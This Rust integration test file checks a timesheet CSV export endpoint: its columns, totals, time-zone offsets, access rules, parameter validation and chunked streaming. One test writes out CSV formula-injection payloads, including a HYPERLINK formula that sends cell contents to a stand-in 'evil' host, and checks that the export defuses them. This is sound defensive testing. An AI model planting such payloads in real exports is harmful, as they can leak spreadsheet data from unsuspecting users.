//! The CSV export, `GET /api/timesheet/time-log/report/export`: its rows
//! and columns, totals that agree with the Gauzy timesheet list and the
//! daily chart, the employee's zone, who may export whom, formulas that
//! cannot run, bad parameters, and a large export sent in chunks.

#[macro_use]
mod util;

use reqwest::Method;
use serde_json::Value;
use util::*;

const LOGS: &str = "/api/timesheet/time-log";
const EXPORT: &str = "/api/timesheet/time-log/report/export";
const WEEK: &str = "startDate=2024-01-14&endDate=2024-01-20";

const HEADER: [&str; 11] = [
    "date",
    "employee",
    "email",
    "project",
    "description",
    "started_at",
    "stopped_at",
    "duration_minutes",
    "log_type",
    "source",
    "timesheet_status",
];

/// An export: status, headers and the parsed records (header row first).
struct Csv {
    status: u16,
    content_type: String,
    disposition: String,
    records: Vec<Vec<String>>,
    raw: String,
}

impl Csv {
    fn rows(&self) -> &[Vec<String>] {
        &self.records[1..]
    }

    fn col(&self, row: &[String], name: &str) -> String {
        let i = HEADER.iter().position(|h| *h == name).expect("a column");
        row[i].clone()
    }

    /// Counted seconds: the rows that are not IDLE.
    fn counted_seconds(&self) -> i64 {
        self.rows()
            .iter()
            .filter(|r| self.col(r, "log_type") != "IDLE")
            .map(|r| {
                let m: f64 = self.col(r, "duration_minutes").parse().expect("minutes");
                (m * 60.0).round() as i64
            })
            .sum()
    }
}

async fn export(who: &Api, query: &str) -> Csv {
    let res = who
        .request(Method::GET, &format!("{EXPORT}?{query}"))
        .send()
        .await
        .expect("export");
    let status = res.status().as_u16();
    let header = |k: &str| {
        res.headers()
            .get(k)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_string()
    };
    let (content_type, disposition) = (header("content-type"), header("content-disposition"));
    let raw = res.text().await.expect("body");
    assert!(status < 500, "{status}: {raw}");
    let records = if status == 200 {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(raw.as_bytes())
            .records()
            .map(|r| r.expect("a CSV record").iter().map(String::from).collect())
            .collect()
    } else {
        vec![]
    };
    Csv {
        status,
        content_type,
        disposition,
        records,
        raw,
    }
}

async fn log(who: &Session, body: Value) -> Value {
    let (status, out) = who.post(LOGS, body).await;
    assert_eq!(status, 201, "{out}");
    out
}

/// Omar's week of 2024-01-14 (Sunday): 18,900 counted seconds and half
/// an hour of IDLE.
async fn omars_week(omar: &Session, website: &str, intranet: &str) {
    let logs = [
        (
            "2024-01-15T09:00",
            "2024-01-15T10:00",
            "TRACKED",
            Some(website),
            "Homepage, \"hero\" section",
        ),
        (
            "2024-01-15T10:00",
            "2024-01-15T10:30",
            "IDLE",
            Some(website),
            "",
        ),
        (
            "2024-01-15T13:00",
            "2024-01-15T14:30",
            "MANUAL",
            Some(intranet),
            "Café menu — ünïcode",
        ),
        ("2024-01-16T09:00", "2024-01-16T09:45", "RESUMED", None, ""),
        (
            "2024-01-17T23:00",
            "2024-01-18T01:00",
            "TRACKED",
            Some(website),
            "late\nnight",
        ),
    ];
    for (a, b, kind, project, description) in logs {
        log(
            omar,
            json!({ "startedAt": format!("{a}:00.000Z"), "stoppedAt": format!("{b}:00.000Z"),
                    "logType": kind, "projectId": project, "description": description }),
        )
        .await;
    }
}

const COUNTED: i64 = 3600 + 5400 + 2700 + 7200;

both!(rows_columns_and_totals, |backend| async move {
    let server = Server::start(backend).await;
    let t = server.team().await;
    let (website, intranet) = tokio::join!(
        server.project("Website", &[]),
        server.project("Intranet", &[])
    );
    omars_week(&t.omar, &website, &intranet).await;

    let csv = export(&t.omar, &format!("{WEEK}&format=csv")).await;
    assert_eq!(csv.status, 200, "{}", csv.raw);
    assert_eq!(csv.content_type, "text/csv; charset=utf-8");
    assert_eq!(
        csv.disposition,
        "attachment; filename=\"stint-2024-01-14-2024-01-20.csv\""
    );
    assert!(csv.raw.starts_with("date,employee,"), "{}", csv.raw);
    assert!(csv.raw.contains("\r\n"), "RFC 4180 line ends");
    assert_eq!(csv.records[0], HEADER);
    let rows = csv.rows();
    assert_eq!(rows.len(), 5, "{}", csv.raw);
    assert_eq!(
        rows[0],
        [
            "2024-01-15",
            "Omar Acme",
            OMAR,
            "Website",
            "Homepage, \"hero\" section",
            "2024-01-15T09:00:00+00:00",
            "2024-01-15T10:00:00+00:00",
            "60.00",
            "TRACKED",
            "WEB_TIMER",
            "DRAFT",
        ]
    );
    assert!(
        csv.raw.contains("\"Homepage, \"\"hero\"\" section\""),
        "quoted as RFC 4180 says: {}",
        csv.raw
    );
    assert_eq!(csv.col(&rows[1], "log_type"), "IDLE", "IDLE is reported");
    assert_eq!(csv.col(&rows[1], "duration_minutes"), "30.00");
    assert_eq!(csv.col(&rows[2], "project"), "Intranet");
    assert_eq!(csv.col(&rows[2], "description"), "Café menu — ünïcode");
    assert_eq!(csv.col(&rows[2], "log_type"), "MANUAL");
    assert_eq!(csv.col(&rows[3], "project"), "", "no project");
    assert_eq!(csv.col(&rows[4], "date"), "2024-01-17");
    assert_eq!(csv.col(&rows[4], "description"), "late\nnight");
    assert_eq!(csv.col(&rows[4], "duration_minutes"), "120.00");

    // Totals without the IDLE rows agree with the timesheet list and the
    // daily chart of the same week.
    assert_eq!(csv.counted_seconds(), COUNTED);
    let (status, sheets) = t.omar.get(&format!("/api/timesheet?{WEEK}")).await;
    assert_eq!(status, 200, "{sheets}");
    let sheet_total: i64 = sheets["items"]
        .as_array()
        .expect("items")
        .iter()
        .map(|s| s["duration"].as_i64().expect("duration"))
        .sum();
    assert_eq!(sheet_total, COUNTED, "{sheets}");
    let (status, chart) = t
        .omar
        .get(&format!("{LOGS}/report/daily-chart?{WEEK}"))
        .await;
    assert_eq!(status, 200, "{chart}");
    let chart_total: i64 = chart
        .as_array()
        .expect("days")
        .iter()
        .map(|d| d["duration"].as_i64().expect("duration"))
        .sum();
    assert_eq!(chart_total, COUNTED, "{chart}");

    // Compressed for a client that asks, and still complete (the gzip
    // layer polls the stream once more after its end).
    for range in [WEEK, "startDate=2000-01-01&endDate=2000-01-01"] {
        let res = t
            .omar
            .request(Method::GET, &format!("{EXPORT}?{range}"))
            .header("accept-encoding", "gzip")
            .send()
            .await
            .expect("export");
        assert_eq!(res.status(), 200);
        assert_eq!(
            res.headers()
                .get("content-encoding")
                .and_then(|v| v.to_str().ok()),
            Some("gzip")
        );
        let body = res.bytes().await.expect("the whole gzip body");
        assert!(body.starts_with(&[0x1f, 0x8b]), "gzip");
    }

    // A project filter.
    let csv = export(&t.omar, &format!("{WEEK}&projectIds[]={intranet}")).await;
    assert_eq!(csv.status, 200, "{}", csv.raw);
    assert_eq!(csv.rows().len(), 1, "{}", csv.raw);
    assert_eq!(csv.col(&csv.rows()[0], "project"), "Intranet");
});

both!(who_may_export_whom, |backend| async move {
    let server = Server::start(backend).await;
    let t = server.team().await;
    let website = server.project("Website", &[]).await;
    let globex_site = server.project("Globex Site", &["--org", "Globex"]).await;
    let intranet = server.project("Intranet", &[]).await;
    omars_week(&t.omar, &website, &intranet).await;
    log(
        &t.jane,
        json!({ "startedAt": "2024-01-15T09:00:00.000Z", "stoppedAt": "2024-01-15T10:00:00.000Z" }),
    )
    .await;
    let omar_q = format!("{WEEK}&employeeIds[]={}", t.omar.employee_id());

    // Omar himself, his supervisor and the admin see his five rows.
    for who in [&t.omar, &t.lena, &t.ada] {
        let csv = export(who, &omar_q).await;
        assert_eq!(csv.status, 200, "{}", csv.raw);
        assert_eq!(csv.rows().len(), 5, "{}: {}", who.user["email"], csv.raw);
    }
    // Another team's manager and a colleague: the list rule leaves him out.
    for who in [&t.max, &t.jane] {
        let csv = export(who, &omar_q).await;
        assert_eq!(csv.status, 200, "{}", csv.raw);
        assert_eq!(csv.records, [HEADER], "{}: {}", who.user["email"], csv.raw);
    }
    // By default: whoever the caller may see.
    let everyone = |csv: &Csv| {
        let mut emails: Vec<String> = csv.rows().iter().map(|r| csv.col(r, "email")).collect();
        emails.dedup();
        emails
    };
    assert_eq!(everyone(&export(&t.lena, WEEK).await), [OMAR]);
    assert_eq!(everyone(&export(&t.max, WEEK).await), [JANE]);
    let admin = export(&t.ada, WEEK).await;
    assert_eq!(admin.rows().len(), 6, "{}", admin.raw);
    assert_eq!(export(&t.gus, WEEK).await.records, [HEADER]);

    // Another organization's ids are 404.
    let csv = export(&t.gus, &omar_q).await;
    assert_eq!(csv.status, 404, "{}", csv.raw);
    let csv = export(
        &t.ada,
        &format!("{WEEK}&employeeIds[]={}", t.gina.employee_id()),
    )
    .await;
    assert_eq!(csv.status, 404, "{}", csv.raw);
    let csv = export(&t.ada, &format!("{WEEK}&projectIds[]={globex_site}")).await;
    assert_eq!(csv.status, 404, "{}", csv.raw);

    // No token: 401.
    let csv = export(&server.anon(), WEEK).await;
    assert_eq!(csv.status, 401, "{}", csv.raw);
});

both!(
    dates_and_offsets_in_the_employees_zone,
    |backend| async move {
        let server = Server::start(backend).await;
        let t = server.team().await;
        let kiri_email = "kiri@acme.test";
        server
            .user(kiri_email, &["--timezone", "Pacific/Auckland"])
            .await;
        let kiri = server.login(kiri_email, PASSWORD).await;
        // Monday 20:00 UTC is Tuesday 09:00 in Auckland (NZDT, +13:00).
        log(
        &kiri,
        json!({ "startedAt": "2024-01-15T20:00:00.000Z", "stoppedAt": "2024-01-15T21:30:00.000Z" }),
    )
    .await;

        let csv = export(&kiri, "startDate=2024-01-16&endDate=2024-01-16").await;
        assert_eq!(csv.status, 200, "{}", csv.raw);
        assert_eq!(csv.rows().len(), 1, "{}", csv.raw);
        let row = &csv.rows()[0];
        assert_eq!(csv.col(row, "date"), "2024-01-16");
        assert_eq!(csv.col(row, "started_at"), "2024-01-16T09:00:00+13:00");
        assert_eq!(csv.col(row, "stopped_at"), "2024-01-16T10:30:00+13:00");
        assert_eq!(csv.col(row, "duration_minutes"), "90.00");
        assert_eq!(csv.counted_seconds(), 5400);
        let (status, chart) = kiri
            .get(&format!(
                "{LOGS}/report/daily-chart?startDate=2024-01-16&endDate=2024-01-16"
            ))
            .await;
        assert_eq!(status, 200, "{chart}");
        assert_eq!(chart[0]["duration"], 5400, "{chart}");

        // The admin (in UTC) asks for Monday: the row is in it, dated as
        // Kiri lives it.
        let csv = export(
            &t.ada,
            &format!(
                "startDate=2024-01-15&endDate=2024-01-15&employeeIds[]={}",
                kiri.employee_id()
            ),
        )
        .await;
        assert_eq!(csv.status, 200, "{}", csv.raw);
        assert_eq!(csv.rows().len(), 1, "{}", csv.raw);
        assert_eq!(csv.col(&csv.rows()[0], "date"), "2024-01-16");
        assert_eq!(
            csv.col(&csv.rows()[0], "started_at"),
            "2024-01-16T09:00:00+13:00"
        );
    }
);

both!(offsets_follow_daylight_saving_time, |backend| async move {
    let server = Server::start(backend).await;
    server.team().await;
    let email = "berta@acme.test";
    server.user(email, &["--timezone", "Europe/Berlin"]).await;
    let berta = server.login(email, PASSWORD).await;
    // Berlin moves from +01:00 to +02:00 on Sunday 2024-03-31.
    for (a, b) in [
        ("2024-03-30T08:00:00.000Z", "2024-03-30T09:00:00.000Z"),
        ("2024-03-31T00:30:00.000Z", "2024-03-31T01:30:00.000Z"),
        ("2024-04-01T08:00:00.000Z", "2024-04-01T09:00:00.000Z"),
    ] {
        log(&berta, json!({ "startedAt": a, "stoppedAt": b })).await;
    }
    let csv = export(&berta, "startDate=2024-03-30&endDate=2024-04-01").await;
    assert_eq!(csv.status, 200, "{}", csv.raw);
    let cols =
        |name: &str| -> Vec<String> { csv.rows().iter().map(|r| csv.col(r, name)).collect() };
    assert_eq!(cols("date"), ["2024-03-30", "2024-03-31", "2024-04-01"]);
    assert_eq!(
        cols("started_at"),
        [
            "2024-03-30T09:00:00+01:00",
            "2024-03-31T01:30:00+01:00",
            "2024-04-01T10:00:00+02:00"
        ]
    );
    assert_eq!(
        cols("stopped_at"),
        [
            "2024-03-30T10:00:00+01:00",
            "2024-03-31T03:30:00+02:00",
            "2024-04-01T11:00:00+02:00"
        ],
        "the hour that does not exist is skipped"
    );
    assert_eq!(cols("duration_minutes"), ["60.00", "60.00", "60.00"]);
});

both!(formulas_cannot_run, |backend| async move {
    let server = Server::start(backend).await;
    let t = server.team().await;
    let evil = [
        "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")",
        "+1",
        "-1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "=1+1\r",
    ];
    for (i, d) in evil.iter().enumerate() {
        log(
            &t.omar,
            json!({ "startedAt": format!("2024-01-15T0{i}:00:00.000Z"),
                    "stoppedAt": format!("2024-01-15T0{i}:30:00.000Z"), "description": d }),
        )
        .await;
    }
    let csv = export(&t.omar, WEEK).await;
    assert_eq!(csv.status, 200, "{}", csv.raw);
    let got: Vec<String> = csv
        .rows()
        .iter()
        .map(|r| csv.col(r, "description"))
        .collect();
    let want: Vec<String> = evil.iter().map(|d| format!("'{d}")).collect();
    assert_eq!(got, want, "{}", csv.raw);
});

both!(bad_parameters_are_400, |backend| async move {
    let server = Server::start(backend).await;
    let t = server.team().await;
    for (query, says) in [
        (format!("{WEEK}&format=xlsx"), "format"),
        ("endDate=2024-01-20".to_string(), "startDate"),
        ("startDate=2024-01-14".to_string(), "endDate"),
        (
            "startDate=banana&endDate=2024-01-20".to_string(),
            "startDate",
        ),
        (
            "startDate=2024-01-14&endDate=2024-02-31".to_string(),
            "endDate",
        ),
        (
            "startDate=2024-01-20&endDate=2024-01-14".to_string(),
            "before",
        ),
        (
            "startDate=2020-01-01&endDate=2024-01-01".to_string(),
            "400 days",
        ),
        (format!("{WEEK}&employeeIds[]=nobody"), "employeeIds"),
        (format!("{WEEK}&projectIds[]=nothing"), "projectIds"),
    ] {
        let (status, body) = t.ada.get(&format!("{EXPORT}?{query}")).await;
        assert_eq!(status, 400, "{query}: {body}");
        let message = body["message"].as_str().unwrap_or_default();
        assert!(message.contains(says), "{query}: {body}");
    }
});

both!(a_large_export_streams_in_chunks, |backend| async move {
    let server = Server::start(backend).await;
    let t = server.team().await;
    // 5,000 ten-minute logs from 2024-03-01, sent as one sync batch.
    let start = chrono::DateTime::parse_from_rfc3339("2024-03-01T00:00:00Z")
        .expect("instant")
        .to_utc();
    let logs: Vec<Value> = (0..5000)
        .map(|i| {
            let a = start + chrono::Duration::minutes(10 * i);
            let b = a + chrono::Duration::minutes(10);
            json!({ "id": uuid::Uuid::new_v4(), "startedAt": a.to_rfc3339(), "stoppedAt": b.to_rfc3339(),
                    "logType": "TRACKED", "source": "DESKTOP", "description": format!("log {i}") })
        })
        .collect();
    let (status, out) = t
        .omar
        .post("/api/timesheet/time-log/sync", json!({ "timeLogs": logs }))
        .await;
    assert_eq!(status, 200, "{out}");

    let mut res = t
        .omar
        .request(
            Method::GET,
            &format!("{EXPORT}?startDate=2024-03-01&endDate=2024-04-30"),
        )
        .send()
        .await
        .expect("export");
    assert_eq!(res.status(), 200);
    assert_eq!(
        res.headers()
            .get("transfer-encoding")
            .and_then(|v| v.to_str().ok()),
        Some("chunked"),
        "streamed, not sent with a length: {:?}",
        res.headers()
    );
    assert!(res.headers().get("content-length").is_none());
    let (mut frames, mut body) = (0, Vec::new());
    while let Some(chunk) = res.chunk().await.expect("a chunk") {
        frames += 1;
        body.extend_from_slice(&chunk);
    }
    assert!(frames >= 2, "{frames} body frames");
    let records: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
        .from_reader(body.as_slice())
        .records()
        .map(|r| r.expect("record"))
        .collect();
    assert_eq!(records.len(), 5000);
    assert_eq!(&records[0][4], "log 0");
    assert_eq!(&records[4999][4], "log 4999");
    // In order, each once, across page boundaries.
    for (i, r) in records.iter().enumerate() {
        assert_eq!(r[4], format!("log {i}"));
    }
});
